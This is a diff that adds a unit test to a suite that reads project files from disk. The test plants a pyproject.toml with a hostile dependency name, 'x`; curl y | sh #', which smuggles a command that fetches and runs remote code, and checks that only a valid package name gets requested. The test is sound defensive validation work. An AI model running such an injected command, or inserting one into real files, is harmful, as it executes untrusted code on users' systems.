@@ -149,6 +149,14 @@ describe('a project on the disk', () => {
     expect(versionsIn(project)).toEqual({});
   });
 
+  it('asks for nothing whose name is no name of a package', async () => {
+    const hostile = 'x`; curl y | sh #';
+    await put({
+      'pyproject.toml': `[tool.poetry.dependencies]\n"${hostile}" = "*"\n"${'a'.repeat(200)}" = "*"\ngood = "*"\n`,
+    });
+    expect([...(await readProject([root])).asked]).toEqual(['good']);
+  });
+
   it('may be an environment, on Windows too', async () => {
     await put({
       'pyvenv.cfg': 'home = C:\\Python\nversion = 3.9.13\n',
